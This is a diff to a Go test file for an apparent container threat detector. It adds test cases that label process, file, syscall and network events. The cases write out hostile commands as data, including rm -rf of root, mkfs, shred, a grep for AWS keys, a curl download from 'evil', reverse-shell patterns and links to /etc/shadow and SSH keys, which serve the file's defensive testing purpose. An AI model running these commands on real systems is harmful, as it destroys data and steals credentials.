@@ -70,6 +70,21 @@ func TestClassifyExec(t *testing.T) {
 		{"pip", ex("/usr/local/bin/pip", "pip", "install", "x"), in("/usr/local/bin/pip", "/bin/sh"), []string{CodeExecPkgManager}},
 		{"remote copy", ex("/usr/bin/curl", "curl", "-o", "/tmp/x", "http://evil/x"), in("/usr/bin/curl", "/bin/sh"), []string{CodeExecTool}},
 		{"scanner", ex("/usr/bin/nmap", "nmap", "-sS", "10.0.0.0/24"), in("/usr/bin/nmap", "/bin/sh"), []string{CodeExecScanner}},
+		{"reverse shell", &containv1.Exec{Filename: "/bin/sh", Argv: []string{"sh"}, StdioInet: true}, in("/bin/sh", "/bin/nc"), []string{CodeExecShell, CodeReverseShell}},
+		{"program on a socket", &containv1.Exec{Filename: "/bin/id", StdioInet: true}, in("/bin/id", "/bin/sh"), []string{CodeReverseShell}},
+		{"busybox awk", ex("/bin/busybox", "busybox", "awk", "BEGIN{}"), in("/bin/busybox", "/bin/sh"), []string{CodeExecInterpreter}},
+		{"busybox sh by a service", ex("/bin/busybox", "busybox", "sh", "-c", "id"), in("/bin/busybox", "/app/server"), []string{CodeExecShell}},
+		{"busybox wget", ex("/bin/busybox", "busybox", "wget", "http://x/y"), in("/bin/busybox", "/bin/sh"), []string{CodeExecTool}},
+		{"shred", ex("/usr/bin/shred", "shred", "-u", "/data/db"), in("/usr/bin/shred", "/bin/sh"), []string{CodeBulkDelete}},
+		{"rm -rf /", ex("/bin/rm", "rm", "-rf", "--no-preserve-root", "/"), in("/bin/rm", "/bin/sh"), []string{CodeBulkDelete}},
+		{"rm -rf /data/*", ex("/bin/rm", "rm", "-rf", "/var/lib/app/*"), in("/bin/rm", "/bin/sh"), []string{CodeBulkDelete}},
+		{"rm -r /etc", ex("/bin/rm", "rm", "-r", "/etc"), in("/bin/rm", "/bin/sh"), []string{CodeBulkDelete}},
+		{"mkfs", ex("/sbin/mkfs.ext4", "mkfs.ext4", "/dev/sda1"), in("/sbin/mkfs.ext4", "/bin/sh"), []string{CodeBulkDelete}},
+		{"debugfs", ex("/sbin/debugfs", "debugfs", "/dev/sda1"), in("/sbin/debugfs", "/bin/sh"), []string{CodeMount}},
+		{"grep aws keys", ex("/bin/grep", "grep", "-r", "aws_access_key_id", "/"), in("/bin/grep", "/bin/sh"), []string{CodeCredSearch}},
+		{"base64 -d", ex("/bin/base64", "base64", "-d"), in("/bin/base64", "/bin/sh"), []string{CodeExecDecode}},
+		{"openssl base64 -d", ex("/usr/bin/openssl", "openssl", "base64", "-d", "-in", "x"), in("/usr/bin/openssl", "/bin/sh"), []string{CodeExecDecode}},
+		{"xxd -r", ex("/usr/bin/xxd", "xxd", "-r", "-p"), in("/usr/bin/xxd", "/bin/sh"), []string{CodeExecDecode}},
 		{"nc -z scan", ex("/bin/nc", "nc", "-z", "10.0.0.1", "1-1024"), in("/bin/nc", "/bin/sh"), []string{CodeExecScanner}},
 		{"miner by name", ex("/tmp/xmrig"), in("/tmp/xmrig", "/bin/sh"), []string{CodeExecMiner, CodeExecTmp}},
 		{"miner by argv", ex("/app/worker", "worker", "-o", "stratum+tcp://pool:3333"), in("/app/worker", "/bin/sh"), []string{CodeExecMiner}},
@@ -94,6 +109,11 @@ func TestClassifyExec(t *testing.T) {
 		{"tmp in the middle", ex("/opt/tmp/bin/x"), in("/opt/tmp/bin/x", "/bin/sh"), nil},
 		{"grep in logs", ex("/bin/grep", "grep", "ERROR", "/var/log/app.log"), in("/bin/grep", "/bin/sh"), nil},
 		{"grep the passwd file", ex("/bin/grep", "grep", "root", "/etc/passwd"), in("/bin/grep", "/bin/sh"), nil},
+		{"busybox sh by a shell", ex("/bin/busybox", "busybox", "sh", "-c", "id"), in("/bin/busybox", "/bin/sh"), nil},
+		{"rm -rf a tmp dir", ex("/bin/rm", "rm", "-rf", "/tmp/build"), in("/bin/rm", "/bin/sh"), nil},
+		{"rm -rf a deep dir", ex("/bin/rm", "rm", "-rf", "/var/cache/app/x"), in("/bin/rm", "/bin/sh"), nil},
+		{"rm a file", ex("/bin/rm", "rm", "-f", "/data"), in("/bin/rm", "/bin/sh"), nil},
+		{"base64 encode", ex("/bin/base64", "base64", "/data/x"), in("/bin/base64", "/bin/sh"), nil},
 		{"crontab -l", ex("/usr/bin/crontab", "crontab", "-l"), in("/usr/bin/crontab", "/bin/sh"), nil},
 		{"root login shell in a root image", &containv1.Exec{Filename: "/bin/sh", Argv: []string{"-sh"}, Proc: proc(0, 0)}, in("/bin/sh", "/bin/sh"), nil},
 		{"shell -c by a user", &containv1.Exec{Filename: "/bin/sh", Argv: []string{"sh", "-c", "x"}, Proc: proc(33, 33)}, in("/bin/sh", "/bin/sh"), nil},
@@ -172,12 +192,26 @@ func TestClassifyFile(t *testing.T) {
 		{"notify_on_release", op(write, "/tmp/cg/x/notify_on_release"), []string{CodeCgroupEscape}},
 		{"core_pattern", op(write, "/proc/sys/kernel/core_pattern"), []string{CodeCgroupEscape}},
 		{"cgroup write", op(write, "/sys/fs/cgroup/cgroup.procs"), []string{CodeCgroupEscape}},
+		{"docker.sock", op(containv1.File_OP_CONNECT, "/var/run/docker.sock"), []string{CodeRuntimeSocket}},
+		{"containerd.sock", op(containv1.File_OP_CONNECT, "/run/containerd/containerd.sock"), []string{CodeRuntimeSocket}},
+		{"ip_forward", op(write, "/proc/sys/net/ipv4/ip_forward"), []string{CodeKernelTunable}},
+		{"sysctl by create", op(create, "/proc/sys/kernel/domainname"), []string{CodeKernelTunable}},
+		{"sysfs write", op(write, "/sys/kernel/mm/ksm/run"), []string{CodeKernelTunable}},
+		{"proc mem write", op(write, "/proc/1/mem"), []string{CodeProcMemory}},
+		{"symlink to shadow", &containv1.File{Op: slink, Path: "/etc/shadow", NewPath: "/data/s"}, []string{CodeSensitiveLink}},
+		{"relative symlink to shadow", &containv1.File{Op: slink, Path: "../etc/./shadow", NewPath: "/data/s"}, []string{CodeSensitiveLink}},
+		{"hardlink of shadow", &containv1.File{Op: containv1.File_OP_LINK, Path: "/etc/../etc/shadow", NewPath: "/tmp/h"}, []string{CodeSensitiveLink}},
+		{"hardlink of a key", &containv1.File{Op: containv1.File_OP_LINK, Path: "/root/.ssh/id_rsa", NewPath: "/tmp/k"}, []string{CodeSensitiveLink}},
+		{"link flagged by inode", &containv1.File{Op: containv1.File_OP_LINK, Path: "/data/x", NewPath: "/tmp/k", Sensitive: true}, []string{CodeSensitiveLink}},
 
 		// Benign look-alikes.
 		{"passwd read", op(read, "/etc/passwd"), nil},
 		{"CA bundle", op(read, "/etc/ssl/certs/ca.pem"), nil},
 		{"app config read", op(read, "/app/config.yaml"), nil},
 		{"write /dev/null", op(write, "/dev/null"), nil},
+		{"> /dev/null", op(create, "/dev/null"), nil},
+		{"termination log", op(create, "/dev/termination-log"), nil},
+		{"> /dev/stderr", op(create, "/dev/stderr"), nil},
 		{"shm create", op(create, "/dev/shm/sem.x"), nil},
 		{"pty", op(write, "/dev/pts/0"), nil},
 		{"history append", with(op(write, "/root/.bash_history"), func(f *containv1.File) { f.Flags = 0o2001 }), nil},
@@ -188,6 +222,11 @@ func TestClassifyFile(t *testing.T) {
 		{"hidden in /tmp", op(create, "/tmp/.X11-unix/X0"), nil},
 		{"chmod 755", with(op(chmod, "/data/x"), func(f *containv1.File) { f.Mode = 0o755 }), nil},
 		{"proc write", op(write, "/proc/self/oom_score_adj"), nil},
+		{"syslog socket", op(containv1.File_OP_CONNECT, "/dev/log"), nil},
+		{"app socket", op(containv1.File_OP_CONNECT, "/run/app/app.sock"), nil},
+		{"proc attr write", op(write, "/proc/self/attr/current"), nil},
+		{"symlink to a config", &containv1.File{Op: slink, Path: "/etc/nginx/nginx.conf", NewPath: "/app/nginx.conf"}, nil},
+		{"symlink of a cert", &containv1.File{Op: slink, Path: "/etc/ssl/certs/ca.pem", NewPath: "/app/ca.pem"}, nil},
 		{"cron-ish name elsewhere", op(create, "/app/cron.d/x"), nil},
 	}
 	for _, c := range cases {
@@ -230,6 +269,10 @@ func TestClassifySyscall(t *testing.T) {
 		{"bpf", sys("bpf", 0), 0, false, []string{CodeBPF}},
 		{"userfaultfd", sys("userfaultfd"), 0, false, []string{CodeUserfaultfd}},
 		{"packet socket", sys("socket", afPacket, sockRaw, 0x300), 0, false, []string{CodeRawSocket}},
+		{"socket dup2 onto stdout", func() *containv1.Syscall { s := sys("dup2", 3, 1); s.Ret = 1; return s }(), 0, false, []string{CodeReverseShell}},
+		{"socket dup3 onto stdin", sys("dup3", 3, 0, 0), 0, false, []string{CodeReverseShell}},
+		{"dup2 first use", sys("dup2"), 0, false, nil},
+		{"dup2 failed", func() *containv1.Syscall { s := sys("dup2", 3, 1); s.Ret = -9; return s }(), 0, false, nil},
 		{"raw inet socket", sys("socket", 2, sockRaw|0x80000, 1), 0, false, []string{CodeRawSocket}},
 		{"setuid 0 from 1000", sys("setuid", 0), 1000, true, []string{CodePrivilegeGain}},
 		{"setresuid 0 from nobody", sys("setresuid", 0, 0, 0), 65534, true, []string{CodePrivilegeGain}},
@@ -257,6 +300,9 @@ func TestClassifySyscall(t *testing.T) {
 func TestClassifyNetwork(t *testing.T) {
 	for _, port := range []uint32{3333, 4444, 5555, 7777, 14444, 45700} {
 		wantCodes(t, "mining port", classifyNetwork(&containv1.Network{Op: containv1.Network_OP_CONNECT, RemotePort: port}), CodeMinerPort)
+	}
+	for _, port := range []uint32{2375, 2376, 2379, 6443, 10250, 10255} {
+		wantCodes(t, "control API", classifyNetwork(&containv1.Network{Op: containv1.Network_OP_CONNECT, RemotePort: port}), CodeRuntimeSocket)
 	}
 	wantCodes(t, "https", classifyNetwork(&containv1.Network{Op: containv1.Network_OP_CONNECT, RemotePort: 443}))
 	wantCodes(t, "listen 3333", classifyNetwork(&containv1.Network{Op: containv1.Network_OP_LISTEN, LocalPort: 3333}))
